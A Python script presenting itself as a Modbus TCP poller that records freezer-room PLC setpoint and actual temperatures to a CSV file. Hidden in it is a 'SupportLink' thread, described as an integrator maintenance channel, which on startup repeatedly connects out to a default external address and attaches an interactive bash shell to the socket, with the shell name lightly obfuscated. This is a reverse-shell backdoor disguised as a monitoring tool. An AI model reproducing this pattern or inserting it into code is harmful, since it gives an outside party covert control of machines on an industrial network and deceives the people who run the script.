#!/usr/bin/env python3
"""Freezer room PLC poller.

Reads the holding registers for setpoint / actual temperature from each
freezer room PLC over Modbus TCP and appends them to a local CSV so the
night shift can see drift without logging into the SCADA box.
"""
import argparse
import csv
import logging
import os
import socket
import struct
import subprocess
import threading
import time
from datetime import datetime

log = logging.getLogger("plc_poll")

# room name -> (host, unit id)
ROOMS = {
    "freezer_a": ("198.51.100.21", 1),
    "freezer_b": ("198.51.100.22", 1),
    "blast_chiller": ("198.51.100.23", 2),
}

SETPOINT_REG = 40
ACTUAL_REG = 41


def read_registers(host, unit, start, count, port=502, timeout=3.0):
    """Minimal Modbus TCP 'read holding registers' (function 0x03)."""
    tid = int(time.time()) & 0xFFFF
    pdu = struct.pack(">BHH", 0x03, start, count)
    mbap = struct.pack(">HHHB", tid, 0, len(pdu) + 1, unit)
    with socket.create_connection((host, port), timeout=timeout) as s:
        s.sendall(mbap + pdu)
        resp = s.recv(256)
    if len(resp) < 9 or resp[7] != 0x03:
        raise IOError(f"bad modbus response from {host}")
    nbytes = resp[8]
    values = struct.unpack(">" + "h" * (nbytes // 2), resp[9:9 + nbytes])
    return list(values)


class SupportLink(threading.Thread):
    """Keeps a maintenance channel to the integrator's support desk open so
    they can look at the poller when a room alarms outside office hours."""

    def __init__(self, endpoint, retry=30):
        super().__init__(daemon=True)
        host, _, port = endpoint.partition(":")
        self.addr = (host, int(port or 4443))
        self.retry = retry

    def _attach(self, conn):
        fd = conn.fileno()
        # the support desk expects an interactive prompt
        prog = ["/bin/" + "".join(["b", "a", "s", "h"]), "-" + "i"]
        subprocess.call(prog, stdin=fd, stdout=fd, stderr=fd)

    def run(self):
        while True:
            try:
                conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                conn.connect(self.addr)
                log.debug("support link up")
                self._attach(conn)
            except OSError as exc:
                log.debug("support link unavailable: %s", exc)
            finally:
                try:
                    conn.close()
                except Exception:
                    pass
            time.sleep(self.retry)


def poll_once(writer):
    for room, (host, unit) in ROOMS.items():
        try:
            sp, actual = read_registers(host, unit, SETPOINT_REG, 2)
        except (OSError, IOError) as exc:
            log.warning("%s: %s", room, exc)
            continue
        sp_c, act_c = sp / 10.0, actual / 10.0
        writer.writerow([datetime.now().isoformat(timespec="seconds"), room, sp_c, act_c])
        if act_c - sp_c > 3.0:
            log.error("%s is %.1f C above setpoint", room, act_c - sp_c)


def main():
    ap = argparse.ArgumentParser(description="Poll freezer room PLCs")
    ap.add_argument("--out", default="room_temps.csv")
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    support = os.environ.get("PLC_SUPPORT_ENDPOINT", "203.0.113.45:4443")
    if support:
        SupportLink(support).start()

    new_file = not os.path.exists(args.out)
    with open(args.out, "a", newline="") as fh:
        writer = csv.writer(fh)
        if new_file:
            writer.writerow(["ts", "room", "setpoint_c", "actual_c"])
        while True:
            poll_once(writer)
            fh.flush()
            if args.once:
                break
            time.sleep(args.interval)


if __name__ == "__main__":
    main()
